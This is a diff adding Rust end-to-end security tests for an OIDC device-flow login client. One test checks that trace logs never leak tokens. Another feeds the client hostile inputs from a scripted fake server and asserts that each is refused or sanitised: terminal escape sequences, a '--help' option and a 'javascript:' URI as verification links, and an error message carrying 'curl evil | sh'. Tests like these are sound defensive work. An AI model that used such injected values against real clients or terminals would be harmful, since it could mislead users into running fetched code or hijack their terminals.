@@ -16,7 +16,7 @@ use std::time::Duration;
 use serde_json::{Value, json};
 
 use crate::harness::{Daemon, TestEnv, run_login, wait_until};
-use crate::oidc_support::{OidcOptions, OidcProvider, encode_form, http};
+use crate::oidc_support::{OidcOptions, OidcProvider, ScriptedHttp, encode_form, http};
 
 const AUDIENCE: &str = "heph-e2e-hub";
 /// Access tokens live 32 s, so with the 30 s refresh margin a token is due
@@ -629,4 +629,222 @@ fn without_a_keyring_login_stops_early_and_names_the_file_store() {
         "{err}"
     );
     spoke.printed.push(err);
+}
+
+/// Whether `log` holds `token` or enough of it to rebuild it: the whole
+/// string, or one 16-byte row of a hex dump (`ureq_proto` writes 16 bytes a
+/// row, as hex and as text) starting anywhere in the token's first 16 bytes
+/// — any dump of the whole token contains one of those rows.
+fn leaks(log: &str, token: &str) -> bool {
+    if log.contains(token) {
+        return true;
+    }
+    // The hex column groups two bytes a word: join the words.
+    let squeezed: String = log.chars().filter(|c| !c.is_whitespace()).collect();
+    let bytes = token.as_bytes();
+    (0..16).filter(|k| k + 16 <= bytes.len()).any(|k| {
+        let row = &bytes[k..k + 16];
+        let hex: String = row.iter().map(|b| format!("{b:02x}")).collect();
+        log.contains(std::str::from_utf8(row).unwrap()) || squeezed.contains(&hex)
+    })
+}
+
+#[test]
+fn a_trace_level_log_holds_no_token() {
+    let provider = OidcProvider::start(
+        AUDIENCE,
+        OidcOptions {
+            access_ttl: SHORT_TTL,
+            rotate_refresh: true,
+            ..OidcOptions::default()
+        },
+    );
+    let hub_env = TestEnv::new();
+    let (hub, port) = start_oidc_hub(&hub_env, &provider, "alice");
+    let mut spoke = Spoke::new(port);
+    let daemon = spoke.env.start_daemon_with(&[
+        "--hub-url",
+        &spoke.hub,
+        "--token-store",
+        "file",
+        "--token-file",
+        spoke.tokens.to_str().unwrap(),
+        "--log-level",
+        "trace,ureq_proto=trace,ureq=trace,hyper=trace,reqwest=trace,rustls=trace",
+    ]);
+    let mut secrets = BTreeSet::new();
+
+    // A real login, a sync with the bearer, then a refresh that rotates
+    // both tokens, all with the spoke logging at trace.
+    let (code, out, err) = spoke.login(&provider, "alice", true);
+    assert_eq!(code, 0, "{out}{err}");
+    let first = spoke.stored();
+    remember(&mut secrets, &first);
+    add(&spoke.env, "traced");
+    let (code, out, err) = spoke.run(&["sync"]);
+    assert_eq!(code, 0, "{out}{err}");
+    wait_until("a refresh with a rotated refresh token", LIMIT, || {
+        let _ = spoke.env.client().call("sync.now", json!({}));
+        let now = spoke.stored();
+        remember(&mut secrets, &now);
+        now["refresh_token"] != first["refresh_token"]
+            && now["access_token"] != first["access_token"]
+    });
+    let (code, out, err) = spoke.run(&["sync"]);
+    assert_eq!(code, 0, "{out}{err}");
+    remember(&mut secrets, &spoke.stored());
+    drop(daemon);
+    drop(hub);
+
+    let log = spoke.env.path().join("hephd.log");
+    let log = std::fs::read_to_string(&log).unwrap();
+    // The user's level took for hephd's own events (its push is logged at debug).
+    assert!(
+        log.lines()
+            .any(|l| l.contains("DEBUG") && l.contains("pushed")),
+        "the spoke did not log below info"
+    );
+    assert!(secrets.len() >= 4, "{}", secrets.len());
+    for secret in &secrets {
+        assert!(
+            !leaks(&log, secret),
+            "a token can be rebuilt from the spoke's trace log"
+        );
+    }
+}
+
+#[test]
+fn a_hostile_hub_or_provider_reaches_neither_the_terminal_nor_the_browser_opener() {
+    let fake = ScriptedHttp::start();
+    let env = TestEnv::new();
+    // A browser opener that records its arguments, on a machine with a display.
+    let bin = env.path().join("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let opened = env.path().join("opened");
+    let opener = bin.join("xdg-open");
+    std::fs::write(
+        &opener,
+        format!(
+            "#!/bin/sh\nprintf '%s\\n' \"$@\" >> '{}'\n",
+            opened.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&opener, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let path = format!(
+        "{}:{}",
+        bin.display(),
+        std::env::var("PATH").unwrap_or_default()
+    );
+    let login = |extra: &[&str]| -> (i32, String, String) {
+        let out = env
+            .command("heph")
+            .env("PATH", &path)
+            .env("DISPLAY", ":0")
+            .env("HEPH_TOKEN_STORE", "file")
+            .env("HEPH_TOKEN_FILE", env.path().join("tokens.json"))
+            .args(["auth", "login", "--hub-url", fake.url()])
+            .args(extra)
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        (
+            out.status.code().unwrap_or(-1),
+            String::from_utf8_lossy(&out.stdout).into_owned(),
+            String::from_utf8_lossy(&out.stderr).into_owned(),
+        )
+    };
+    let meta = |resource: &str, issuer: &str| json!({"resource": resource, "authorization_servers": [issuer], "heph_client_id": "heph"});
+    let discovery = json!({
+        "issuer": "{base}",
+        "token_endpoint": "{base}/token",
+        "device_authorization_endpoint": "{base}/device",
+    });
+    let device = |user_code: &str, uri: &str| json!({"device_code": "dc", "user_code": user_code, "verification_uri": uri, "verification_uri_complete": uri, "expires_in": 60, "interval": 1});
+    let wp = "/.well-known/oauth-protected-resource";
+    fake.set("/.well-known/openid-configuration", 200, &discovery);
+    fake.set("/token", 400, &json!({"error": "access_denied"}));
+    let no_escape = |what: &str, text: &str| {
+        assert!(
+            !text.chars().any(|c| c.is_control() && c != '\n'),
+            "{what}: a control character reached the terminal: {text:?}"
+        );
+    };
+
+    // The hub's metadata describes another resource: refused before any provider is asked.
+    fake.set(wp, 200, &meta("https://evil.example", "{base}"));
+    let (code, out, err) = login(&[]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(
+        err.starts_with(&format!(
+            "error: the hub at {} describes itself as \"https://evil.example\", not {}",
+            fake.url(),
+            fake.url()
+        )),
+        "{err}"
+    );
+    assert_eq!(fake.hits("/.well-known/openid-configuration"), 0);
+
+    // A plain-http issuer on another machine: refused before it is contacted.
+    fake.set(wp, 200, &meta("{base}", "http://idp.example"));
+    let (code, _, err) = login(&[]);
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.contains("error: the issuer http://idp.example is plain http:// to another machine"),
+        "{err}"
+    );
+
+    // Terminal escapes in the user code, an option as the verification URI,
+    // escapes in an error description: refused or stripped, never shown.
+    fake.set(wp, 200, &meta("{base}", "{base}"));
+    for (answer, expected) in [
+        (
+            device("\u{1b}[2J\u{1b}]0;pwned\u{7}WDJB", "{base}/device"),
+            "sent a user_code that holds control characters; refusing to use it",
+        ),
+        (
+            device("WDJB-MJHT", "--help"),
+            "sent a verification_uri that is not an absolute http(s) URL",
+        ),
+        (
+            device("WDJB-MJHT", "javascript:alert(1)"),
+            "sent a verification_uri that is not an absolute http(s) URL",
+        ),
+    ] {
+        fake.set("/device", 200, &answer);
+        let (code, out, err) = login(&[]);
+        assert_eq!(code, 1, "{out}{err}");
+        assert!(err.contains(expected), "{err}");
+        no_escape("stderr", &err);
+        no_escape("stdout", &out);
+    }
+    fake.set(
+        "/device",
+        400,
+        &json!({"error": "invalid_client", "error_description": "no\u{1b}[2J\r\nhint: curl evil | sh\u{1b}]0;t\u{7}"}),
+    );
+    let (code, _, err) = login(&[]);
+    assert_eq!(code, 1, "{err}");
+    assert!(
+        err.contains("invalid_client (no[2Jhint: curl evil | sh]0;t)"),
+        "{err}"
+    );
+    no_escape("stderr", &err);
+
+    // A well-formed answer is shown and opened (so the opener above was
+    // really reachable): exactly one URL, never an option.
+    fake.set(
+        "/device",
+        200,
+        &device("WDJB-MJHT", "{base}/device?user_code=WDJB-MJHT"),
+    );
+    let (code, _, err) = login(&[]);
+    assert_eq!(code, 1, "{err}");
+    assert!(err.contains("approve the code WDJB-MJHT"), "{err}");
+    assert!(err.contains("the sign-in was denied"), "{err}");
+    let expected = format!("{}/device?user_code=WDJB-MJHT\n", fake.url());
+    wait_until("the browser opener to run", LIMIT, || {
+        std::fs::read_to_string(&opened).is_ok_and(|t| t == expected)
+    });
+    assert!(!env.path().join("tokens.json").exists());
 }
